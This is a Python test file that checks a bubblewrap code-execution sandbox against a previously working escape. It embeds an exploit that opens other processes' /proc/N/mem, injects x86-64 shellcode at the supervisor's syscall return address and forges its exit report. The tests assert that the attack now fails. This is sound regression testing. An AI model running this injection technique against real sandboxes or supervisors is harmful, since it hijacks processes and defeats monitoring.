"""A program may touch no process in its sandbox but its own tree, and cannot forge its report.

Before this was fixed, bwrap's init (PID 1) and the supervisor (PID 2) ran without the seccomp
filter, dumpable, under the program's uid: a program opened `/proc/2/mem` read-write, wrote code
at the supervisor's `wait4` return address, and that code opened an `AF_INET` socket and wrote a
forged report (exit 0, no CPU time). These tests run that exploit and a census of every visible
process against the real sandbox (bubblewrap, the helpers, cgroups), with no server around it.
"""

import dataclasses
import functools
import json
from pathlib import Path

from sandbox.host import host_sandbox
from sandbox.runner import MIB, Limits, Sandbox

LIMITS = Limits(
    cpu_seconds=5, wall_seconds=20, memory_bytes=256 * MIB, output_bytes=65536, processes=16, file_bytes=MIB
)

# The exploit: find every process that is not ours, read where its syscall will return
# (/proc/N/syscall), write x86-64 code there through /proc/N/mem. That code asks for an AF_INET
# socket and writes a report line "0 0 0 1" (socket granted) or "0 0 0 2" (refused) to the
# supervisor's report fd (its argv[1]), then exits 0. The program itself then exits 7.
EXPLOIT = r"""
import json, os, struct
ours = {os.getpid()}
attempts = {}
for entry in sorted(os.listdir('/proc')):
    if not entry.isdigit() or int(entry) in ours:
        continue
    pid = int(entry)
    outcome = {}
    try:
        outcome['cmdline'] = open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\0')[:3]
        outcome['cmdline'] = [part.decode(errors='replace') for part in outcome['cmdline']]
    except OSError as exc:
        outcome['cmdline'] = repr(exc)
    try:
        fields = open(f'/proc/{pid}/syscall').read().split()
        outcome['syscall'] = 'read'
    except OSError as exc:
        fields, outcome['syscall'] = None, type(exc).__name__
    try:
        mem = os.open(f'/proc/{pid}/mem', os.O_RDWR)
        outcome['mem'] = 'opened'
    except OSError as exc:
        mem, outcome['mem'] = None, type(exc).__name__
    report_fd = 3
    try:
        args = open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\0')
        report_fd = int(args[1]) if args[1].isdigit() else 3
    except (OSError, IndexError):
        pass
    if mem is not None and fields and len(fields) > 2:
        pc = int(fields[-1], 16)
        report = lambda text: struct.unpack('<Q', text)[0]
        code = (
            b'\x6a\x29\x58\x6a\x02\x5f\x6a\x01\x5e\x31\xd2\x0f\x05'       # socket(AF_INET, SOCK_STREAM, 0)
            b'\x48\x85\xc0\x78\x0c'                                      # test rax, rax; js refused
            + b'\x48\xb9' + struct.pack('<Q', report(b'0 0 0 1\n')) + b'\xeb\x0a'
            + b'\x48\xb9' + struct.pack('<Q', report(b'0 0 0 2\n'))
            + b'\x51\x48\x89\xe6'                                        # push rcx; mov rsi, rsp
            + b'\xbf' + struct.pack('<I', report_fd)                     # mov edi, report fd
            + b'\xba\x08\x00\x00\x00\xb8\x01\x00\x00\x00\x0f\x05'        # write(fd, rsp, 8)
            + b'\x31\xff\xb8\xe7\x00\x00\x00\x0f\x05'                    # exit_group(0)
        )
        try:
            os.pwrite(mem, code, pc)
            outcome['write'] = 'written'
        except OSError as exc:
            outcome['write'] = type(exc).__name__
    attempts[pid] = outcome
print(json.dumps(attempts))
raise SystemExit(7)
"""

CENSUS = r"""
import json, os
census = {}
for entry in os.listdir('/proc'):
    if not entry.isdigit() or int(entry) == os.getpid():
        continue
    status = dict(line.split(':', 1) for line in open(f'/proc/{entry}/status') if ':' in line)
    try:
        os.close(os.open(f'/proc/{entry}/mem', os.O_RDONLY))
        mem = 'opens'
    except OSError as exc:
        mem = type(exc).__name__
    census[entry] = {'seccomp': status['Seccomp'].strip(), 'mem': mem, 'name': status['Name'].strip()}
print(json.dumps(census))
"""


@functools.cache
def sandbox() -> Sandbox:
    return host_sandbox(disk_bytes=16 * MIB, uid_base=60_001, uids=64, lock_dir=Path("/run/taskservice-uids"))


def run(source: str, read_only: tuple[str, ...] = ()):
    chosen = sandbox()
    with chosen.workdir() as space:
        (space.work / "main.py").write_text(source)
        return chosen.run(
            ["/usr/bin/python3", "main.py"], workspace=space, stdin=b"", limits=LIMITS, read_only=read_only
        )


def test_writing_into_the_supervisor_neither_opens_a_socket_nor_forges_the_report():
    outcome = run(EXPLOIT)
    attempts = json.loads(outcome.stdout)
    assert attempts, "the program sees no process but its own: nothing to attack"
    for pid, attempt in attempts.items():
        assert attempt["mem"] != "opened", (pid, attempt)
        assert attempt["syscall"] != "read", (pid, attempt)
        assert "bwrap" not in str(attempt["cmdline"]), (pid, attempt)  # no host command line
    assert (outcome.exit_code, outcome.signal) == (7, None), outcome  # the program's own, not forged
    assert outcome.cpu_seconds and outcome.cpu_seconds > 0, outcome


def test_every_other_visible_process_is_filtered_and_its_memory_closed():
    outcome = run(CENSUS)
    census = json.loads(outcome.stdout)
    assert census, outcome
    for pid, process in census.items():
        assert process["seccomp"] == "2", (pid, process)  # a filter, not 0 (none)
        assert process["mem"] != "opens", (pid, process)


def test_the_host_s_usr_local_and_kernel_symbols_stay_outside():
    outcome = run(
        "import os\n"
        "print(sorted(os.listdir('/usr/local')))\n"
        "for path in ('/proc/kallsyms', '/proc/modules'):\n"
        "    try:\n"
        "        print(len(open(path).read()))\n"
        "    except OSError as exc:\n"
        "        print(type(exc).__name__)\n"
    )
    listing, *kernel = outcome.stdout.decode().splitlines()
    assert listing == "[]", outcome  # python3 here is Debian's /usr/bin/python3: nothing of /usr/local is needed
    assert kernel[0] == "PermissionError", outcome
    assert kernel[1] in ("PermissionError", "FileNotFoundError"), outcome  # no modules on a monolithic kernel


def test_a_run_sees_of_etc_only_what_its_own_toolchain_reads():
    """Each run binds its language's configuration alone (a JDK's for Java, none for Python)."""
    probe = "import os\nprint(os.path.isdir('/etc/apt'), os.path.isdir('/etc/ssl'))\n"
    assert run(probe).stdout == b"False False\n"
    assert run(probe, read_only=("/etc/apt",)).stdout == b"True False\n"
    assert run(probe).stdout == b"False False\n"  # and the next run is back to none


def test_a_cap_of_n_processes_leaves_the_program_exactly_n():
    """The sandbox's own processes (bwrap, the supervisor) come on top of the program's cap."""
    two_threads = (  # with the main thread: three at once
        "import threading\ngo = threading.Event()\n"
        "threads = [threading.Thread(target=go.wait) for _ in range(2)]\n"
        "try:\n    [thread.start() for thread in threads]\nfinally:\n    go.set()\n"
    )
    chosen = sandbox()
    for cap, started in ((3, True), (2, False)):
        with chosen.workdir() as space:
            (space.work / "main.py").write_text(two_threads)
            limits = dataclasses.replace(LIMITS, processes=cap)
            outcome = chosen.run(["/usr/bin/python3", "main.py"], workspace=space, stdin=b"", limits=limits)
        assert (outcome.exit_code == 0) is started, (cap, outcome)
        assert started or b"can't start new thread" in outcome.stderr, outcome
